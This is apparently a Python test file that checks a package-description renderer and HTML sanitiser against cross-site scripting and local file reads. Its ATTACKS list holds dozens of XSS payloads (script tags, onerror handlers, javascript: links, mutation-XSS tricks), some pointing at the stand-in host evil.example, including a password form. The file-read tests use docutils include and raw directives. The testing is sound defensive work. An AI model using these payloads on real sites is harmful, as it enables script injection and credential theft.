"""No README can run code at its readers, read files of the machine or send anyone anywhere unseen."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import lxml.html
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pyf_scrapy.metadata import restructured_text
from pyf_scrapy.metadata.descriptions import render, sanitise

MARKDOWN = "text/markdown"
RST = "text/x-rst"
PLAIN = "text/plain"

_TAGS = """
a abbr acronym article aside b blockquote br caption center cite code col colgroup dd del details dfn div dl
dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q s samp
section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr
"""
_ATTRIBUTES = "align alt class colspan height href open rel rowspan src start title width"
HARMLESS_TAGS = frozenset(_TAGS.split())
HARMLESS_ATTRIBUTES = frozenset(_ATTRIBUTES.split())

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)//",
    '<img src="http://x.example/"onload="alert(1)">',
    "<img/src=`x`onerror=alert(1)>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="mailto:a@b.example">',
    '<img srcset="javascript:alert(1) 1x" src="/logout">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#x61;vascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a><a href="/admin/delete">x</a>',
    '<a href="https://x.example" target=_blank onclick=alert(1) ping=//evil.example>x</a>',
    '<a id=cookie name=cookie href="#x">x</a><img name=body id=getElementById>',
    '<p class="fixed inset-0" style="position:fixed;background:url(javascript:alert(1))">x</p>',
    "<style>*{background:url(//evil.example)}</style>",
    '<link rel=stylesheet href="//evil.example"><base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<iframe src=javascript:alert(1) srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)><param name=x></object><embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</form>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a><animate onbegin=alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
    "<xmp><img title='</xmp><script>alert(1)</script>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<body onload=alert(1)></body></html><script>alert(1)</script>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>",
    "<custom-element onfocus=alert(1) tabindex=1 autofocus contenteditable>x</custom-element>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><svg><desc><table><caption><style><img src=x onerror=alert(1)></style>",
    "\ufeff<\x00script>alert(1)</\x00script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<custom>\n&lt;img src=x onerror=alert(1)&gt;\n\n# H",
    "# &lt;script&gt;alert(1)&lt;/script&gt; <img src=x onerror=alert(1)>",
    "[x](javascript:alert(1)) [x]( javascript&colon;alert(1)) [x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(1)> ![x](javascript:alert(1))",
    '![x](http://x.example/"onerror="alert(1)) [x](http://x.example "t" onclick=alert(1))',
    "[a]: javascript:alert(1)\n\n[a] [^1]\n\n[^1]: <script>alert(1)</script>",
    '```js" onmouseover=alert(1)\nx\n```\n\n```<script>\n</script>\n```',
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|\n\n- [x] <input type=image src=x onerror=alert(1)>",
    ".. raw:: html\n\n   <script>alert(1)</script>\n",
    ".. role:: html(raw)\n   :format: html\n\n:html:`<script>alert(1)</script>`\n",
    "`x <javascript:alert(1)>`_\n\n.. _y: javascript:alert(1)\n\ny_",
    '.. image:: javascript:alert(1)\n   :target: javascript:alert(1)\n   :alt: "><script>alert(1)</script>\n',
    ".. image:: http://x.example/a.svg\n   :loading: embed\n\n.. image:: http://x.example/a.swf\n",
    '.. class:: fixed inset-0\n\n.. _cookie:\n\nx\n\n.. code:: " onclick=alert(1)\n\n   <script>x</script>\n',
    ".. meta::\n   :http-equiv=refresh: 0;url=javascript:alert(1)\n",
    ".. math:: \\href{javascript:alert(1)}{x}\n",
    ".. |x| unicode:: 0x3C script 0x3E\n\n|x| alert(1)\n",
]

_PIECES = """
<a href='http://x'>|</a>|<p>|</p>|<div>|</div>|<table>|<tr>|<td>|<caption>|</table>|<b>|</b>|<i>|<svg>|</svg>
<math>|<style>|</style>|<script>|</script>|<img src=x onerror=a>|<pre>|</pre>|<!--|-->|<![CDATA[|]]>|<form>
<select>|<option>|<noscript>|<template>|<title>|</title>|<textarea>|<iframe>|<mglyph>|<foreignObject>|<mtext>
<xmp>|<plaintext>|<body>|<li>|<ul>|<h1>|<h2>|</h1>|<button>|<x>|'|"|>|<|&|&lt;|&#x3c;|&#10;
 href=javascript:a | onclick=a |<a href=javascript:a>
"""
FRAGMENTS = st.lists(
    st.one_of(
        st.sampled_from([piece for line in _PIECES.strip("\n").splitlines() for piece in line.split("|")]),
        st.sampled_from(["\n", "\n\n", " ", "\xa0", "\x00"]),
        st.text(max_size=3),
    ),
    max_size=25,
).map("".join)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    """All elements as two parsers of different make see them."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    yield from collector.found
    for element in lxml.html.document_fromstring(f"<html><body>{html}").body.iterdescendants():
        assert isinstance(element.tag, str), f"a comment or the like survived: {html}"
        yield element.tag, dict(element.attrib)


def assert_harmless(html: str) -> None:
    """Fail if anything in the HTML could run, load, submit or imitate."""
    for tag, attributes in elements(html):
        assert tag in HARMLESS_TAGS, html
        assert attributes.keys() <= HARMLESS_ATTRIBUTES, html
        assert attributes.get("href", "http://").lower().startswith(("http://", "https://", "mailto:")), html
        assert attributes.get("src", "http://").lower().startswith(("http://", "https://")), html
        assert attributes.get("class", "language-").startswith("language-"), html
        assert " " not in attributes.get("class", ""), html
        assert tag != "a" or attributes.get("rel") == "nofollow", html


def test_the_checker_sees_what_it_looks_for() -> None:
    bad = [
        "<script>",
        "<p onclick=a>",
        "<a rel=nofollow href=javascript:a>",
        "<img src=data:a>",
        "<p class=x>",
        "<a href=http://x rel=opener>",
        "<x>",
    ]
    for html in bad:
        with pytest.raises(AssertionError):
            assert_harmless(html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_way_to_hide_a_script_works(attack: str) -> None:
    for content_type in (MARKDOWN, "text/markdown; variant=CommonMark", RST, PLAIN, None):
        for source in (attack, f"# T\n\n{attack}\n\ntext", f"x <div>\n\n{attack}\n\n</div> y"):
            assert_harmless(render(source, content_type).html)
    assert_harmless(sanitise(attack))


@settings(max_examples=300)
@given(FRAGMENTS)
@example("<li><option><form><li>")
@example("<pre>&#10;\n&#10;x")
def test_no_soup_of_tags_gets_through_and_sanitising_again_changes_nothing(fragment: str) -> None:
    html = sanitise(fragment)
    assert_harmless(html)
    assert sanitise(html) == html


@settings(max_examples=100)
@given(FRAGMENTS, st.sampled_from([MARKDOWN, RST, PLAIN]))
def test_no_source_breaks_rendering(source: str, content_type: str) -> None:
    description = render(source, content_type)
    assert_harmless(description.html)
    assert render(source, content_type) == description


def test_text_that_upstream_made_live_stays_text() -> None:
    html = render("<custom>\n&lt;img src=x onerror=alert(1)&gt;\n\n# H", MARKDOWN).html
    assert html == "&lt;img src=x onerror=alert(1)&gt;\n<h2>H</h2>"


@pytest.mark.parametrize(
    "directive",
    [
        ".. include:: {}",
        ".. include:: {}\n   :literal:",
        ".. raw:: html\n   :file: {}",
        ".. raw:: html\n   :url: file://{}",
        ".. csv-table::\n   :file: {}",
        ".. csv-table::\n   :url: file://{}",
        ".. literalinclude:: {}",
        ".. image:: {}\n   :loading: embed",
        ".. image:: file://{}\n   :loading: embed",
        ".. figure:: file://{}\n   :loading: embed",
        ".. |s| image:: file://{}\n   :loading: embed\n\n|s|",
        ".. image:: file://{}\n   :scale: 50",
    ],
)
def test_a_readme_cannot_read_files_of_the_machine(directive: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.svg"
    secret.write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>s3cr3t</text></svg>'
    )
    source = "Text\n\n" + directive.format(secret) + "\n"
    # Not even for the sanitiser to remove: it could be a device or a pipe that never ends.
    html = restructured_text.to_html(source) or ""
    assert "s3cr3t" not in html
    assert "svg+xml" not in html
    assert "s3cr3t" not in str(render(source, RST))


def test_a_docutils_conf_of_the_machine_does_not_open_what_is_closed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "docutils.conf").write_text("[general]\nraw_enabled: yes\n")
    monkeypatch.chdir(tmp_path)
    assert "<b>" not in render(".. raw:: html\n\n   <b>live</b>\n\nText", RST).html
